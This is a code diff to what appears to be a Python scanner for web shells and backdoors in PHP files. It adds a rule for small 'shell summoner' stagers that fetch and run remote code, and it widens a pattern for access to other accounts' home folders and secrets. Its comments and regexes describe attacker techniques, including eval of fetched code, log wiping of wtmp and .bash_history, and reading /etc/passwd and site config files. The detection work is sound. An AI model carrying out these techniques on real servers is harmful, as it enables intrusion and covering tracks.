@@ -19,6 +19,9 @@ site often take no input worth following; what gives them away is what they do:
   but a payload hidden from a glance at the folder.
 * remote_code_evaluated: eval() of what a call fetched from a URL written in the file
   ($a = get('http://host/x.txt'); eval('?>' . $a)): code loaded from the attacker's server.
+* remote_code_staged: a small file holding the URL of code kept as text elsewhere (a .php or .txt path, a paste
+  service's raw view) that saves what it fetches under a PHP name or includes the saved file, or evaluates a
+  fetched string ('?>' . $code): the "shell summoner" that brings the real shell back after a clean-up.
 * tracks_wiped: the file names three or more of the system's login and shell-history records (wtmp,
   utmp, lastlog, .bash_history, HISTFILE, xferlog ...) and deletes, empties or runs a command: a log
   cleaner run after a break-in. Applications read their own logs, not the system's login records.
@@ -304,6 +307,38 @@ def _remote_code(low, words):
     return -1
 
 
+# Code kept as text on another host: a URL whose path ends in a PHP or text name, or a paste service's raw view
+# (pastebin.com/raw/ID). Fetched by a small file that saves it and runs it (include of the saved path, a PHP name
+# to save it under) or evaluates what a call returned (eval('?>' . $code)): the "shell summoner" left behind to
+# bring the real shell back after a clean-up. An application's update check fetches data, in a file of its own.
+_CODE_URL = re.compile(r"['\"](?:https?|ftp)://[^'\"\s]{1,300}?(?:\.(?:php\d?|phtml|phar|txt)|/raw/[\w-]{1,40})['\"]")
+# What is written is what a call returned: the call itself as the data argument, or a variable assigned a call's result.
+_WRITTEN = re.compile(r"\b(?:fwrite|fputs|file_put_contents)\s*\(\s*[^,;]{1,200},\s*@?\s*(?:[a-z_]\w*\s*\(|(\$\w+)\s*[,)])")
+_RUN_SAVED = re.compile(word_call("include|require") + r"(?:_once)?\s*\(?\s*@?\s*\$")
+_PHP_NAME = re.compile(r"['\"][^'\"\s:]{0,200}\.(?:php\d?|phtml)['\"]")
+_RUN_FETCHED = re.compile(word_call("eval|assert") + r"\s*\(\s*['\"]\?>['\"]\s*\.\s*\$")
+STAGER_SIZE = 8 << 10
+
+
+def _remote_code_staged(low, words):
+    if len(low) > STAGER_SIZE or "://" not in low:
+        return -1
+    url = _CODE_URL.search(low)
+    if url is None:
+        return -1
+    if _RUN_FETCHED.search(low) or _saves_a_result(low) and (_RUN_SAVED.search(low) or _PHP_NAME.search(low)):
+        return url.start()
+    return -1
+
+
+def _saves_a_result(low):
+    for match in _WRITTEN.finditer(low):
+        var = match.group(1)
+        if var is None or re.search(re.escape(var) + r"\s*=\s*@?\s*[a-z_]\w*\s*\(", low):
+            return True
+    return False
+
+
 # An include whose path is written in escapes ("\167\160\55..."): nothing but hiding which file runs.
 _ESCAPED_INCLUDE = re.compile(r"(?:include|require)(?:_once)?\s*\(?\s*@?\s*\"(?:[^\"\n\\]{0,40}"
                               r"\\(?:[0-7]{1,3}|x[0-9a-f]{1,2})){3}")
@@ -383,9 +418,12 @@ def _wipes_tracks(low, words):
 
 
 # Where a shared host's accounts are listed, and a home folder path built from a variable (concatenated or
-# interpolated). The pattern starts with its literal: a search skips to each "/home".
+# interpolated). Each branch starts with a literal: a search skips to each "/home" or "$".
 _ACCOUNT_LISTS = _parts(("/etc/passwd", "/etc/named.conf", "/var/named", "/etc/valiases", "/etc/domainalias"))
-_HOME_OF_VARIABLE = re.compile(r"/home\d?/(?:['\"]\s*\.\s*\$\w|\{?\$\w)")
+# Or the account's web folder or its own secrets under a variable that names the account ($home . '/' . $user .
+# '/public_html/...', '/.my.cnf'): the home root chosen at run time (home, home2 ... picked from a list).
+_HOME_OF_VARIABLE = re.compile(r"/home\d?/(?:['\"]\s*\.\s*\$\w|\{?\$\w)"
+                               r"|\$\w+\s*\.\s*['\"]/(?:public_html/|\.my\.cnf|\.accesshash)")
 _CONFIG_FILES = _parts(("wp-config", "configuration.php", "config.php", "settings.php", "conf_global", "config.inc.php",
                         "localsettings.php", ".env"))
 _HOME = _parts(("/home",))
@@ -409,6 +447,7 @@ def score_actions(low, ev, first, words):
                                ("server_report_mailed", 10, _report_mailed),
                                ("include_of_image_file", 10, _include_of_image),
                                ("remote_code_evaluated", 10, _remote_code),
+                               ("remote_code_staged", 10, _remote_code_staged),
                                ("other_sites_configs", 10, _other_sites_configs),
                                ("include_of_escaped_path", 10, _escaped_include),
                                ("backdated_and_self_deleted", 10, _backdated_and_self_deleted),
